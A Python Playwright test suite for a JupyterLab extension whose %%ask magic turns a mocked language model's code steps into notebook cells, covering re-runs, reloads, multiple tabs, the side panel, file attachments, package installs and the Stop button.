"""Issue 3 in a real browser: %%ask steps become cells, re-runs reuse, the panel, Stop."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from jupyter_ci.kernel.record import pin_of, prompt_hash
from tests.demo_wheel import PACKAGE
from tests.fakellm import FakeLLM, Turn
from tests.ui.lab import COLLABORATION, WAIT_MS, Lab, Notebook, read_notebook_file

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
# Notebooks start with the cell JupyterLab adds when an ask first succeeds in a notebook that
# lacks it (tests/ui/test_panel.py tests that), so the cells keep their places mid-test.
LOAD = "%load_ext jupyter_ci"


def code(src: str, text: str = "") -> Turn:
    return Turn(text, tool_calls=[("run_python", {"code": src})])


def has_class(name: str) -> re.Pattern[str]:
    return re.compile(rf"(^|\s){re.escape(name)}(\s|$)")


def wait_answer(nb: Notebook, index: int, text: str) -> None:
    """Wait until the %%ask cell at `index` shows `text` and has finished."""
    expect(nb.cell(index).locator(".jp-OutputArea")).to_contain_text(text, timeout=WAIT_MS)
    nb.wait_cell_done(index)


def _wait_saved(nb: Notebook, done: Callable[[Any], bool]) -> None:
    """Wait until the notebook file on disk, as the server autosaves it, satisfies `done`."""
    deadline = time.monotonic() + WAIT_MS / 1000
    while not done(read_notebook_file(nb.path)):
        assert time.monotonic() < deadline, f"{nb.path.name} was not saved as expected"
        time.sleep(0.2)


def _ids_and_sources(nb: Notebook) -> list[tuple[str, str]]:
    """Return each cell's id and source, in order, as the page's model holds them."""
    return [(c["id"], "".join(c["source"])) for c in nb.model_json()["cells"]]


def ask_ids(nb: Notebook) -> list[str | None]:
    """Return every cell's data-jupyter-ci-ask-id, in order (None where it has none)."""
    return [cell.get_attribute("data-jupyter-ci-ask-id") for cell in nb.cells.all()]


STEPS = [
    "import pandas as pd\n"
    "df = pd.DataFrame({'region': list('NSEW'), 'revenue': [4, 2, 5, 1]})\ndf",
    "import matplotlib.pyplot as plt\ndf.plot.bar(x='region', y='revenue')\nplt.show()",
    "best = df.loc[df.revenue.idxmax(), 'region']\nprint('best region:', best)",
]


def test_three_steps_become_three_cells_below_the_ask(lab: Lab, fake: FakeLLM) -> None:
    fake.push(code(STEPS[0], "Loading the data."), code(STEPS[1]), code(STEPS[2]),
              Turn("**E** has the most revenue."))
    nb = lab.open_notebook("three", [LOAD, "%%ask\nplot revenue by region",
                                     "print('later', best)"])
    nb.run(1)
    wait_answer(nb, 1, "E has the most revenue.")
    nb.wait_cell_count(6)
    expect(nb.generated()).to_have_count(3)
    ask = nb.cell(1)
    expect(ask).to_have_class(has_class("jp-ci-ask"))
    ask_id = ask.get_attribute("data-jupyter-ci-ask-id")
    assert ask_id and ask_ids(nb) == [None] + [ask_id] * 4 + [None]
    # The answered ask is pinned in its source, for runners that send only the source.
    pin = pin_of(prompt_hash("plot revenue by region", None))
    assert nb.source(1) == f"%%ask --pin {pin}\nplot revenue by region"
    for step in (1, 2, 3):
        index = step + 1
        expect(nb.cell(index)).to_have_class(has_class("jp-ci-generated"))
        expect(nb.cell(index)).to_have_attribute("data-jupyter-ci-step", str(step))
        nb.wait_cell_done(index)
        assert nb.source(index) == STEPS[step - 1]
        assert nb.editor_text(index) == STEPS[step - 1]
    expect(nb.cell(2).locator(".jp-OutputArea-output table.dataframe")).to_be_visible()
    expect(nb.cell(3).locator(".jp-OutputArea-output img[src^='data:image/png']")).to_be_visible()
    expect(nb.cell(4).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*best region: E\s*$"))
    shown = [nb.execution_count(i) for i in range(1, 5)]
    counts = [c for c in shown if c is not None]
    assert len(counts) == 4, f"cells without an execution count: {shown}"
    assert counts == sorted(set(counts)), f"execution counts not increasing: {counts}"
    # The %%ask cell keeps a progress log and the answer; the steps' outputs are not repeated.
    # Each step says what it did (here the model's words), and those words stay too.
    expect(ask.locator(".jp-OutputArea")).to_contain_text("Step 1 · Loading the data: done")
    for step in (2, 3):
        expect(ask.locator(".jp-OutputArea")).to_contain_text(f"Step {step}: done")
    expect(ask.locator(".jp-ci-markdown p", has_text="Loading the data.")).to_be_visible()
    expect(ask.locator(".jp-ci-markdown strong", has_text="E")).to_be_visible()
    assert "best region" not in nb.output_text(1)
    expect(nb.root.locator("table.dataframe")).to_have_count(1)
    expect(nb.root.locator(".jp-OutputArea-output img")).to_have_count(1)
    expect(nb.root.locator(".jp-OutputArea-output", has_text="best region")).to_have_count(1)
    nb.screenshot("three-steps")
    nb.run(5)
    expect(nb.cell(5).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*later E\s*$"),
                                                              timeout=WAIT_MS)
    assert fake.calls() == 4


def test_a_fixed_error_leaves_one_clean_cell(lab: Lab, fake: FakeLLM) -> None:
    fixed = "undefined_thing = 7\nprint('fixed', undefined_thing)"
    fake.push(code("print(undefined_thing)"), code(fixed), Turn("Fixed."))
    nb = lab.open_notebook("fixed", [LOAD, "%%ask\nprint the thing"])
    nb.run(1)
    wait_answer(nb, 1, "Fixed.")
    nb.wait_cell_count(3)
    nb.wait_cell_done(2)
    expect(nb.cell(2).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*fixed 7\s*$"))
    expect(nb.root.locator('[data-mime-type="application/vnd.jupyter.stderr"]')).to_have_count(0)
    assert nb.editor_text(2) == fixed
    expect(nb.cell(2)).to_have_attribute("data-jupyter-ci-badge", re.compile("2 attempts"))
    nb.screenshot("fixed-error")
    saved = nb.read_saved()
    assert len(saved.cells) == 3
    generated = saved.cells[2]
    assert generated.source == fixed
    assert [o["output_type"] for o in generated.outputs] == ["stream"]
    meta = generated.metadata["jupyter_ci"]
    assert meta["step"] == 1 and meta["model"] == "openai:gpt-test"
    attempts = meta["attempts"]
    assert [(a["attempt"], a["status"], a["ename"]) for a in attempts] == [
        (1, "error", "NameError"), (2, "ok", None)]
    assert attempts[0]["code"] == "print(undefined_thing)" and attempts[1]["code"] == fixed
    record = saved.cells[1].metadata["jupyter_ci"]
    assert record["status"] == "done" and record["steps"] == 1
    assert meta["ask_id"] == record["ask_id"]
    # Issue 3: the progress log says "step n: ... failed → fixed", not just "done".
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text(
        re.compile(r"Step 1: [^\n]*fixed"))


def test_restart_and_run_all_reuses_the_answer(lab: Lab, fake: FakeLLM) -> None:
    fake.push(code("base = 20\nprint('base', base)"), Turn("Base is 20."))
    nb = lab.open_notebook("rerun", [LOAD, "%%ask\nset base", "print('double', base * 2)"])
    nb.run(1)
    wait_answer(nb, 1, "Base is 20.")
    nb.wait_cell_count(4)
    record = nb.model_json()["cells"][1]["metadata"]["jupyter_ci"]
    calls = fake.calls()
    assert calls == 2
    nb.activate()
    # Not awaited: the command waits for the confirmation dialog clicked below.
    nb.page.evaluate("() => { window.jupyterapp.commands.execute('notebook:restart-run-all'); }")
    nb.page.locator(".jp-Dialog .jp-mod-accept").click(timeout=WAIT_MS)
    # `base` exists in the restarted kernel only if the generated cell ran again.
    expect(nb.cell(3).locator(".jp-OutputArea")).to_have_text(
        re.compile(r"^\s*double 40\s*$"), timeout=WAIT_MS)
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text("Reusing the earlier answer")
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text("Base is 20.")
    expect(nb.cell(2).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*base 20\s*$"))
    assert [nb.execution_count(i) for i in range(4)] == [1, 2, 3, 4]
    nb.wait_cell_count(4)
    expect(nb.generated()).to_have_count(1)
    assert fake.calls() == calls
    assert nb.model_json()["cells"][1]["metadata"]["jupyter_ci"]["ask_id"] == record["ask_id"]
    nb.screenshot("restart-run-all")


def test_refresh_and_an_edited_prompt_ask_again_and_replace_the_cells(
    lab: Lab, fake: FakeLLM
) -> None:
    fake.push(code("v = 1\nprint('v is', v)"), Turn("One."))
    nb = lab.open_notebook("refresh", [LOAD, "%%ask\nmake v", "print('after', v)"])
    nb.run(1)
    wait_answer(nb, 1, "One.")
    nb.wait_cell_count(4)
    seen = [nb.cell(2).get_attribute("data-jupyter-ci-ask-id")]
    for source, value, answer in (("%%ask --refresh\nmake v", 2, "Two."),
                                  ("%%ask\nmake v three", 3, "Three.")):
        calls = fake.calls()
        fake.push(code(f"v = {value}\nprint('v is', v)"), Turn(answer))
        nb.set_source(1, source)
        nb.run(1)
        wait_answer(nb, 1, answer)
        assert fake.calls() == calls + 2
        expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text(f"v is {value}")
        nb.wait_cell_count(4)
        expect(nb.generated()).to_have_count(1)
        new_id = nb.cell(2).get_attribute("data-jupyter-ci-ask-id")
        assert new_id not in seen and ask_ids(nb) == [None, new_id, new_id, None]
        seen.append(new_id)
        assert nb.source(2) == f"v = {value}\nprint('v is', v)"
        assert nb.source(3) == "print('after', v)"
    nb.run(3)
    expect(nb.cell(3).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*after 3\s*$"),
                                                              timeout=WAIT_MS)
    nb.screenshot("refreshed")


def test_an_edited_prompt_using_a_name_of_the_replaced_cells_is_told_and_warned(
    lab: Lab, fake: FakeLLM
) -> None:
    fake.push(code("orders = [3, 4]\nprint('loaded', orders)"), Turn("Loaded."))
    nb = lab.open_notebook("restart-check", [LOAD, "import math", "%%ask\nload the orders"])
    nb.run(1)
    nb.wait_cell_done(1)
    nb.run(2)
    wait_answer(nb, 2, "Loaded.")
    nb.wait_cell_count(4)
    # The edited prompt replaces the cell that defined `orders`; the new step only uses it,
    # and the model, sent back once (--max-fixes 2), answers again without fixing that.
    fake.push(code("print('total', sum(orders))"), Turn("Seven."), Turn("Seven, still."))
    nb.set_source(2, "%%ask --max-fixes 2\ntotal the orders")
    nb.run(2)
    wait_answer(nb, 2, "Seven, still.")
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text(
        "Done with an unresolved error in step 1: after a restart it would fail: it reads "
        "orders, which no cell above it nor an earlier step defines", timeout=WAIT_MS)
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("total 7")
    told = " ".join(json.dumps(fake.requests[-3].messages).split())
    assert "so a restart loses them): orders." in told
    assert "Step 1 reads `orders`" in fake.requests[-1].messages[-1]["content"]
    nb.screenshot("restart-check")


def test_an_ask_whose_cell_is_deleted_while_it_runs_still_records_its_steps(
    lab: Lab, fake: FakeLLM
) -> None:
    step = "deleted_check = 42\nprint('check', deleted_check)"
    # The model thinks for a few seconds before its step: time to delete the %%ask cell.
    fake.push(Turn("Thinking it over. " * 8, tool_calls=[("run_python", {"code": step})],
                   chunk_delay=0.1), Turn("Set."))
    nb = lab.open_notebook("deleted-ask", [LOAD, "print('first')", "%%ask\nset the check"])
    nb.run(2)
    # The log's first line follows ask_start on IOPub: the extension knows the ask by now.
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("Asking", timeout=WAIT_MS)
    nb.js("panel.content.model.sharedModel.deleteCell(2);")
    # The step is not run unseen: the ask cell comes back at the end, its step below it.
    nb.wait_cell_count(4)
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("check 42", timeout=WAIT_MS)
    assert nb.source(3) == step
    assert re.fullmatch(r"%%ask( --pin [0-9a-f]{10})?\nset the check", nb.source(2))
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("put back", timeout=WAIT_MS)
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("Set.")
    nb.screenshot("deleted-ask")


def test_an_ask_cell_deleted_after_its_first_step_comes_back_above_its_steps(
    lab: Lab, fake: FakeLLM
) -> None:
    first, second = "later_a = 1\nprint('a', later_a)", "later_b = 2\nprint('b', later_b)"
    fake.push(code(first),
              Turn("Next one. " * 10, tool_calls=[("run_python", {"code": second})],
                   chunk_delay=0.1),
              Turn("Both set."))
    nb = lab.open_notebook("deleted-later", [LOAD, "%%ask\nset both", "print('last')"])
    nb.run(1)
    nb.wait_cell_count(4)
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("a 1", timeout=WAIT_MS)
    nb.js("panel.content.model.sharedModel.deleteCell(1);")
    # Its record is not lost: the %%ask cell comes back right above its steps.
    nb.wait_cell_count(5)
    expect(nb.cell(1)).to_have_class(has_class("jp-ci-ask"), timeout=WAIT_MS)
    assert re.fullmatch(r"%%ask --pin [0-9a-f]{10}\nset both", nb.source(1))
    assert [nb.source(i) for i in (2, 3, 4)] == [first, second, "print('last')"]
    ask_id = nb.cell(1).get_attribute("data-jupyter-ci-ask-id")
    assert ask_id and ask_ids(nb) == [None] + [ask_id] * 3 + [None]
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text("Both set.", timeout=WAIT_MS)


def test_an_ask_survives_a_reload_of_the_page(lab: Lab, fake: FakeLLM) -> None:
    first = "reload_check = 42\nprint('check', reload_check)"
    second = "reload_twice = reload_check * 2\nprint('twice', reload_twice)"
    # The model thinks for a few seconds before its second step: time to reload the page.
    fake.push(code(first),
              Turn("Doubling it next. " * 12, tool_calls=[("run_python", {"code": second})],
                   chunk_delay=0.1),
              Turn("Set `reload_check` and its double."))
    nb = lab.open_notebook("reload-ask", [LOAD, "print('first')"])
    nb.select(1)
    lab.panel.open()
    lab.panel.ask("set the reload check")
    nb.wait_cell_count(4)
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("check 42", timeout=WAIT_MS)
    shared = nb.collaborative
    assert shared == COLLABORATION
    # Without collaboration the %%ask cell the panel inserted was never saved: the reloaded
    # notebook lacks it. With it, the server's copy of the notebook keeps the cell and step 1.
    nb = lab.reload(nb)
    # The kernel's account of the ask brings it back whole, its steps as cells below it,
    # each once (the reloaded page is the only one left to write them).
    expect(nb.cell(4).locator(".jp-OutputArea")).to_contain_text("twice 84", timeout=WAIT_MS)
    ask = nb.cell(2)
    expect(ask.locator(".jp-OutputArea")).to_contain_text("its double", timeout=WAIT_MS)
    nb.wait_cell_count(5)
    assert nb.source(1) == "print('first')"
    assert nb.source(3) == first and nb.source(4) == second
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("check 42", timeout=WAIT_MS)
    if shared:
        expect(ask.locator(".jp-OutputArea")).not_to_contain_text("put back")
    else:
        expect(ask.locator(".jp-OutputArea")).to_contain_text("put back")
    expect(ask).to_have_class(has_class("jp-ci-ask"), timeout=WAIT_MS)
    # No reply reaches this page, yet the %%ask cell shows it ran, with its own count.
    nb.wait_cell_done(2)
    assert re.fullmatch(r"%%ask --pin [0-9a-f]{10}\nset the reload check", nb.source(2))
    ask_id = ask.get_attribute("data-jupyter-ci-ask-id")
    assert ask_id and ask_ids(nb) == [None, None] + [ask_id] * 3
    for index, step in ((3, 1), (4, 2)):
        expect(nb.cell(index)).to_have_attribute("data-jupyter-ci-step", str(step))
    assert fake.calls() == 3
    nb.screenshot("reloaded-ask")
    if shared:  # and the server saved it as the page shows it
        _wait_saved(nb, lambda saved: [c.source for c in saved.cells][2:] == [
            nb.source(2), first, second])


def test_a_second_tab_follows_an_ask_that_runs_already(lab: Lab, fake: FakeLLM) -> None:
    first = "tab_check = 7\nprint('tab', tab_check)"
    second = "print('tab again', tab_check + 1)"
    fake.push(code(first),
              Turn("Once more. " * 30, tool_calls=[("run_python", {"code": second})],
                   chunk_delay=0.1),
              Turn("Checked in two steps."))
    nb = lab.open_notebook("second-tab", [LOAD, "%%ask\ncheck the tab", "print('last')"])
    nb.run(1)
    nb.wait_cell_count(4)
    # Saved mid-ask (the ask goes on changing it): the %%ask cell, its id, and step 1. With
    # collaboration the server saves the notebook a second after each change.
    if not nb.collaborative:
        nb.js("return panel.context.save();")
    _wait_saved(nb, lambda saved: len(saved.cells) > 2 and saved.cells[2].source == first)
    other = Lab(lab.page.context.new_page(), lab.server, f"{lab.workspace}-2")
    other.goto(nb.path.relative_to(lab.server.root).as_posix())
    tab = other.reload_target(nb.path)
    expect(tab.cell(2).locator(".jp-OutputArea")).to_contain_text("tab 7", timeout=WAIT_MS)
    expect(tab.cell(3).locator(".jp-OutputArea")).to_contain_text("tab again 8", timeout=WAIT_MS)
    expect(tab.cell(1).locator(".jp-OutputArea")).to_contain_text("in two steps",
                                                                  timeout=WAIT_MS)
    tab.wait_cell_count(5)
    assert [tab.source(i) for i in (2, 3, 4)] == [first, second, "print('last')"]
    expect(tab.cell(1)).to_have_class(has_class("jp-ci-ask"), timeout=WAIT_MS)
    # The first tab followed the whole ask as usual, without duplicates: with collaboration
    # both show the one notebook the first tab wrote, each step once.
    wait_answer(nb, 1, "in two steps")
    nb.wait_cell_count(5)
    assert [nb.source(i) for i in (2, 3, 4)] == [first, second, "print('last')"]
    if nb.collaborative:
        assert _ids_and_sources(tab) == _ids_and_sources(nb)
    # Both side panels followed the ask to its answer.
    for page in (lab, other):
        page.panel.open()
        expect(page.panel.root).to_contain_text("in two steps", timeout=WAIT_MS)
    tab.screenshot("second-tab")


def test_when_the_tab_that_ran_an_ask_closes_the_other_tab_finishes_it(
        lab: Lab, fake: FakeLLM) -> None:
    first = "left = 3\nprint('left', left)"
    second = "print('right', left * 2)"
    fake.push(code(first),
              Turn("Thinking it over. " * 30, tool_calls=[("run_python", {"code": second})],
                   chunk_delay=0.1),
              Turn("Finished in the other tab."))
    nb = lab.open_notebook("closing-tab", [LOAD, "%%ask\ncount both ways", "print('last')"])
    nb.run(1)
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("left 3", timeout=WAIT_MS)
    other = Lab(lab.page.context.new_page(), lab.server, f"{lab.workspace}-2")
    other.goto(nb.path.relative_to(lab.server.root).as_posix())
    tab = other.reload_target(nb.path)
    expect(tab.cell(2).locator(".jp-OutputArea")).to_contain_text("left 3", timeout=WAIT_MS)
    # The tab that ran the ask (and wrote its cells) goes while the model still thinks.
    lab.page.close()
    expect(tab.cell(3).locator(".jp-OutputArea")).to_contain_text("right 6", timeout=WAIT_MS)
    expect(tab.cell(1).locator(".jp-OutputArea")).to_contain_text("in the other tab",
                                                                  timeout=WAIT_MS)
    tab.wait_cell_count(5)
    assert [tab.source(i) for i in (2, 3, 4)] == [first, second, "print('last')"]
    assert re.fullmatch(r"%%ask --pin [0-9a-f]{10}\ncount both ways", tab.source(1))
    tab.wait_cell_done(1)
    ask_id = tab.cell(1).get_attribute("data-jupyter-ci-ask-id")
    assert ask_id and ask_ids(tab) == [None] + [ask_id] * 3 + [None]
    tab.screenshot("closed-tab-taken-over")
    if tab.collaborative:  # the server saved what the remaining tab wrote
        _wait_saved(tab, lambda saved: [c.source for c in saved.cells] == [
            LOAD, tab.source(1), first, second, "print('last')"])


def test_an_ask_from_the_panel_with_the_first_cell_active_lands_below_load_ext(
    lab: Lab, fake: FakeLLM
) -> None:
    fake.push(Turn("Nothing to run."))
    nb = lab.open_notebook("panel-title", ["# Sales report", LOAD, "x = 1"])
    nb.select(0)  # the title cell, above the line the ask needs
    lab.panel.open()
    lab.panel.ask("say hello")
    nb.wait_cell_count(4)
    assert nb.source(1) == LOAD and nb.source(0) == "# Sales report"
    assert re.fullmatch(r"%%ask( --pin [0-9a-f]{10})?\nsay hello", nb.source(2)), nb.source(2)
    assert nb.source(3) == "x = 1"


def test_asking_from_the_panel(lab: Lab, fake: FakeLLM) -> None:
    fake.push(code("from_panel = start + 5\nprint('panel made', from_panel)", "On it."),
              Turn("Made `from_panel` from the panel."))
    nb = lab.open_notebook("panel", [LOAD, "start = 0", "print('the last cell')"])
    nb.run(1)
    nb.wait_cell_done(1)
    nb.select(1)
    lab.panel.open()
    expect(lab.panel.part("model")).to_contain_text("openai:gpt-test")
    lab.panel.ask("make from_panel")
    nb.wait_cell_count(5)
    expect(lab.panel.part("prompt")).to_have_value("")
    # Below the active cell (start = 0), above the notebook's last cell.
    # (pinned once the ask is answered, which may be done already)
    assert re.fullmatch(r"%%ask( --pin [0-9a-f]{10})?\nmake from_panel", nb.source(2))
    expect(nb.cell(2)).to_have_class(has_class("jp-ci-ask"), timeout=WAIT_MS)
    expect(nb.cell(3)).to_have_class(has_class("jp-ci-generated"))
    assert nb.source(4) == "print('the last cell')"
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("panel made 5",
                                                                 timeout=WAIT_MS)
    wait_answer(nb, 2, "from the panel.")
    entry = lab.panel.part("ask").last
    expect(entry).to_have_attribute("data-jupyter-ci-status", "done", timeout=WAIT_MS)
    expect(entry).to_contain_text("make from_panel")
    steps = entry.locator('[data-jupyter-ci="step"]')
    expect(steps).to_have_count(1)
    expect(steps).to_have_attribute("data-jupyter-ci-status", "ok")
    answer = entry.locator('[data-jupyter-ci="answer"]')
    expect(answer).to_contain_text("Made from_panel from the panel.")
    expect(answer.locator("code", has_text="from_panel")).to_be_visible()
    # What the model was sent, per ask, part by part with tokens, as text.
    sent = entry.locator('[data-jupyter-ci="sent"]')
    expect(sent).to_contain_text("What the model was sent")
    sent.locator("summary").click()
    parts = sent.locator('[data-jupyter-ci="sent-part"]')
    expect(parts.first).to_contain_text("System prompt")
    expect(sent).to_contain_text("make from_panel")
    assert sent.locator("script, img, iframe").count() == 0
    nb.screenshot("panel-ask")


def test_files_attached_in_the_panel_land_beside_the_notebook_for_the_next_ask(
    lab: Lab, fake: FakeLLM
) -> None:
    step = ("import pandas as pd\nsales = pd.read_csv('data/sales.csv')\n"
            "extra = pd.read_csv('data/sales (1).csv')\n"
            "print('total', sales.revenue.sum() + extra.revenue.sum())")
    fake.push(code(step), Turn("The total is 10."))
    nb = lab.open_notebook("work/attach", [LOAD, "x = 1"])
    nb.select(1)
    lab.panel.open()
    # The button's file picker...
    lab.panel.part("attach-input").set_input_files(files=[
        {"name": "sales.csv", "mimeType": "text/csv", "buffer": b"region,revenue\nN,4\nS,2\n"}])
    expect(lab.panel.part("attached-file")).to_have_count(1, timeout=WAIT_MS)
    # ... and a drop of a file with the same name, which keeps the first and gets a number.
    drop = lab.page.evaluate_handle("""() => {
        const dt = new DataTransfer();
        dt.items.add(new File(['region,revenue\\nE,3\\nW,1\\n'], 'sales.csv',
                              {type: 'text/csv'}));
        return dt;
    }""")
    lab.panel.part("drop").dispatch_event("dragover", {"dataTransfer": drop})
    lab.panel.part("drop").dispatch_event("drop", {"dataTransfer": drop})
    expect(lab.panel.part("attached-file")).to_have_count(2, timeout=WAIT_MS)
    lab.screenshot("panel-attached")
    root = lab.server.root / "work"  # the notebook's folder, where its kernel runs
    assert (root / "data" / "sales.csv").read_bytes() == b"region,revenue\nN,4\nS,2\n"
    assert (root / "data" / "sales (1).csv").read_bytes() == b"region,revenue\nE,3\nW,1\n"
    lab.panel.ask("add up the revenue")
    nb.wait_cell_count(4)
    assert nb.source(2).startswith("%%ask")
    assert nb.source(2).endswith("add up the revenue\n\n"
                                 "Files uploaded for this: `data/sales.csv`, `data/sales (1).csv`")
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("total 10", timeout=WAIT_MS)
    expect(lab.panel.part("attached-file")).to_have_count(0)
    told = json.dumps(fake.requests[0].messages)
    assert "data/sales (1).csv" in told


def test_a_missing_package_is_asked_about_in_the_cell_and_installed(
    lab: Lab, fake: FakeLLM
) -> None:
    uses = f"import {PACKAGE}\nprint('value', {PACKAGE}.VALUE)"
    fake.push(code(uses), Turn("The value is 42."))
    nb = lab.open_notebook("install", [LOAD, "%%ask\nprint the demo value"])
    nb.run(1)
    # The kernel asks through stdin, as input() does: the box is in the %%ask cell.
    box = nb.cell(1).locator(".jp-Stdin-input")
    expect(box).to_be_visible(timeout=WAIT_MS)
    expect(nb.cell(1).locator(".jp-Stdin-prompt")).to_contain_text(
        f"Install {PACKAGE} with pip? [y/N]")
    nb.screenshot("install-prompt")
    box.fill("y")
    box.press("Enter")
    wait_answer(nb, 1, "The value is 42.")
    nb.wait_cell_count(4)
    assert nb.source(2) == f"%pip install {PACKAGE}" and nb.source(3) == uses
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("Successfully installed")
    expect(nb.cell(3).locator(".jp-OutputArea")).to_contain_text("value 42")
    # The kernel is boxed: pip installed into the boxes' environment (server/sandbox/box_env.py),
    # not into PIP_TARGET's folder, which the box cannot write (code that could write there
    # would run in every later unboxed Python on that path).
    assert not (lab.server.root.parent / "site" / PACKAGE).exists()
    boxes = lab.server.root.parent / "data" / "jupyter_ci" / "box"
    assert list(boxes.glob(f"**/site-packages/{PACKAGE}/__init__.py")), list(boxes.iterdir())
    assert fake.calls() == 2


def test_a_file_named_in_the_answer_opens_in_jupyterlab(lab: Lab, fake: FakeLLM) -> None:
    fake.push(code("import pandas as pd\npd.DataFrame({'n': [1, 2]}).to_csv('totals.csv')"),
              Turn("Saved the totals to sandbox:/mnt/data/totals.csv for you."))
    nb = lab.open_notebook("links/answer-link", [LOAD, "%%ask\nsave the totals"])
    nb.run(1)
    wait_answer(nb, 1, "Saved the totals")
    link = nb.cell(1).locator(".jp-OutputArea a", has_text="totals.csv")
    expect(link).to_have_count(1, timeout=WAIT_MS)
    # Relative to the notebook: JupyterLab resolves it to the file beside it.
    assert "/files/links/totals.csv" in (link.get_attribute("href") or "")
    link.click()
    # Opened by JupyterLab, beside the notebook: a tab of its own, not a browser page.
    tab = lab.page.locator("#jp-main-dock-panel .lm-TabBar-tab", has_text="totals.csv")
    expect(tab).to_have_count(1, timeout=WAIT_MS)
    opened = lab.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.context.path")
    assert opened == "links/totals.csv"
    lab.screenshot("answer-link-opened")


def test_the_panel_keeps_its_conversation_across_a_reload(lab: Lab, fake: FakeLLM) -> None:
    prompt = ("make a table of the first ten squares and cubes, with a column for each, "
              "and tell me which cube is closest to five hundred")
    fake.push(code("kept = [(n, n**2, n**3) for n in range(1, 11)]\nprint(len(kept))"),
              Turn("The cube closest to 500 is **512**."))
    nb = lab.open_notebook("kept", [LOAD, "x = 1"])
    nb.select(1)
    lab.panel.open()
    # A long model name is shown in full on hover.
    expect(lab.panel.part("model")).to_have_attribute("title", re.compile("openai:gpt-test"))
    lab.panel.ask(prompt)
    nb.wait_cell_count(4)
    # The inserted cell wraps the long prompt over lines a reader can take in.
    lines = nb.source(2).split("\n")
    assert len(lines) >= 3 and all(len(line) <= 88 for line in lines[1:])
    assert " ".join(lines[1:]) == prompt
    entry = lab.panel.part("ask").last
    expect(entry).to_have_attribute("data-jupyter-ci-status", "done", timeout=WAIT_MS)
    nb = lab.reload(nb)
    lab.panel.open()
    entry = lab.panel.part("ask")
    expect(entry).to_have_count(1, timeout=WAIT_MS)
    expect(entry).to_have_attribute("data-jupyter-ci-status", "done")
    expect(entry).to_contain_text("which cube is closest")
    expect(entry.locator('[data-jupyter-ci="answer"]')).to_contain_text("closest to 500 is 512")
    lab.screenshot("conversation-kept")


def test_progress_is_live_in_the_cell_the_panel_and_the_status_bar(
    lab: Lab, fake: FakeLLM
) -> None:
    step = "# Wait for the slow part\nimport time\ntime.sleep(3)\nprint('slow part done')"
    # The model thinks for a few seconds, then writes the step's code slowly.
    fake.push(Turn("", tool_calls=[("run_python", {"code": step})], first_delay=3,
                   chunk_delay=0.12),
              Turn("It took a while."))
    nb = lab.open_notebook("live", [LOAD, *(f"filler_{i} = {i}" for i in range(30))])
    nb.select(1)
    # Every source the cell below the %%ask cell shows, as it changes.
    nb.js("window.__seen = []; window.__poll = setInterval(() => {"
          " const c = panel.content.model.cells; if (c.length > 32) {"
          " const src = c.get(3).sharedModel.getSource();"
          " if (window.__seen[window.__seen.length - 1] !== src) window.__seen.push(src); }"
          "}, 30);")
    lab.panel.open()
    lab.panel.ask("do the slow part")
    ask = nb.cell(2)
    expect(ask.locator(".jp-OutputArea")).to_contain_text("thinking", timeout=WAIT_MS)
    expect(lab.panel.part("clock")).to_contain_text(re.compile(r"thinking · \d+ s"))
    status = lab.page.locator(".jp-StatusBar-Widget", has_text="ipykernel")
    expect(status).to_contain_text("Busy", timeout=WAIT_MS)
    lab.screenshot("live-thinking")
    # The user looks elsewhere meanwhile; the step's cell is brought into view, its code
    # appearing as the model writes it, before it runs.
    nb.js("panel.content.scrollToItem(panel.content.widgets.length - 1);")
    expect(nb.cell(3).locator(".jp-InputArea-editor")).to_contain_text("# Wait for",
                                                                        timeout=WAIT_MS)
    expect(nb.cell(3)).to_be_in_viewport(timeout=WAIT_MS)
    lab.screenshot("live-code-preview")
    expect(nb.cell(3)).to_have_class(has_class("jp-ci-generated"), timeout=WAIT_MS)
    expect(lab.panel.part("clock")).to_contain_text("running a step", timeout=WAIT_MS)
    expect(ask.locator(".jp-OutputArea")).to_contain_text("Step 1 · Wait for the slow part")
    expect(status).to_contain_text("Busy")
    lab.screenshot("live-step")
    wait_answer(nb, 2, "It took a while.")
    expect(lab.panel.part("clock")).to_have_count(0)
    seen = nb.js("clearInterval(window.__poll); return window.__seen;")
    partial = [src for src in seen if src != step]
    assert len(partial) >= 3 and all(step.startswith(src) for src in seen), seen
    assert nb.cells.count() == 33  # the preview cell became the step's cell: no extra one


def test_stop_interrupts_a_long_step_and_keeps_its_cell(lab: Lab, fake: FakeLLM) -> None:
    fake.push(code("import time\nprint('sleeping', flush=True)\ntime.sleep(60)"))
    nb = lab.open_notebook("stop", ["%%ask\nsleep a while", "print('alive')"])
    lab.panel.open()
    nb.run(0)
    nb.wait_cell_count(3)
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text("sleeping", timeout=WAIT_MS)
    stop = lab.panel.part("stop")
    expect(stop).to_be_enabled()
    started = time.monotonic()
    stop.click()
    expect(lab.panel.part("ask").last).to_have_attribute(
        "data-jupyter-ci-status", "interrupted", timeout=15_000)
    expect(nb.cell(1)).to_have_class(has_class("jp-ci-interrupted"), timeout=15_000)
    nb.wait_cell_done(0)
    assert time.monotonic() - started < 10, "Stop took more than 10 s to end the ask"
